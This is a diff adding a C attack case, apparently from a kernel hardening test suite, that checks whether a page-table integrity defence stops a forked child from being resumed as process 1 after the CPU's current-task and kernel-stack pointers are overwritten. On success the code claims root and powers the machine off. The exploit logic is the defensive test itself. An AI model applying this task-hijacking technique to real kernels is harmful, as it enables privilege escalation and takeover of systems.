@@ -1,0 +1,88 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: While a child runs in user mode on the other CPU, the program tells that CPU that process 1
+ * is running there, on the kernel stack of process 1, and lets it be preempted: the child's
+ * registers become those that process 1 goes on with. Both run the same program file.
+ * Stops it: A task that leaves a CPU leaves the page tables that the seal of its stack names.
+ * Without: Process 1 wakes up in the attacker's code.
+ */
+#include "attack.h"
+
+ATTACK("pgtable_integrity", "preempted_as_root",
+       "pgtable_integrity: a task on the page tables of another",
+       "While a child runs in user mode on the other CPU, the program tells that CPU that "
+       "process 1 is running there, on the kernel stack of process 1; the child is "
+       "preempted, and its registers are those that process 1 goes on with.",
+       "A task that leaves a CPU leaves the page tables that the seal of its stack names.",
+       "Process 1 wakes up in the attacker's code.");
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+/* Where process 1 has memory, too. */
+static char common_stack[4096];
+
+/* No call and no memory until process 1 may have come here in the child's place. */
+static _Noreturn void spin_and_see(void)
+{
+	for (unsigned long i = 0; i < 300000000; i++)
+		__asm__ volatile("pause");
+	if (call0(__NR_getpid) != 1)
+		leave(0);
+	say_result("WON");
+	for (;;)
+		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
+		      LINUX_REBOOT_CMD_POWER_OFF, 0);
+}
+
+static _Noreturn void go_to_common_stack(void)
+{
+	__asm__ volatile("movq %0, %%rsp; call *%1"
+			 :
+			 : "r"(common_stack + sizeof(common_stack)), "r"(spin_and_see)
+			 : "memory");
+	__builtin_unreachable();
+}
+
+/* Takes the other CPU from the child as soon as it is told to. */
+static _Noreturn void preempt(const volatile bool *now)
+{
+	(void)own_cpu(0);
+	while (!*now)
+		sleep_milliseconds(1);
+	(void)own_cpu(1);
+	for (;;)
+		__asm__ volatile("pause");
+}
+
+static bool fire(void)
+{
+	volatile bool *now = (volatile bool *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE,
+						    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	const uint64_t task = own_task(), init = init_task(task), cpu = own_cpu(1);
+	const uint64_t top = peek(init + member("task.stack_top"));
+	const long id = fork_program();
+	uint64_t child;
+
+	if (id == 0)
+		go_to_common_stack();
+	(void)own_cpu(0);
+	if (fork_program() == 0)
+		preempt(now);
+	do
+		child = peek(cpu + member("cpu.current"));
+	while (peek32(child + member("task.id")) != (uint32_t)id);
+	sleep_milliseconds(20);
+	poke(cpu + member("cpu.current"), init);
+	poke(cpu + member("cpu.kernel_stack_top"), top);
+	*now = true;
+	sleep_milliseconds(100);
+	leave(0); /* which wakes process 1 */
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
